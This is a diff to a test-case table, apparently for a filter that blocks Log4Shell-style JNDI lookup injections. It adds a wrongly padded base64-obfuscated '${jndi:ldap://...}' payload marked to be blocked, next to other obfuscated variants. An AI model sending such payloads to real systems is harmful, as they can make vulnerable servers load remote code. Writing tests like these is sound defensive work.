@@ -228,6 +228,12 @@ export const EXPRESSION_CASES: readonly ExpressionCase[] = [
         technique: "jndi-lookup",
         why: "quoted text of a date format",
     },
+    {
+        text: "${${base64:am5kaQ=}:ldap://example.com}",
+        want: "block",
+        technique: "jndi-lookup",
+        why: "base64 lookup that is padded wrongly",
+    },
     { text: "${${base64:am5kaQ==}:ldap://example.com}", want: "block", technique: "jndi-lookup", why: "base64 lookup" },
     {
         text: "${${x:x}jn${y:y}di:ldap://example.com}",
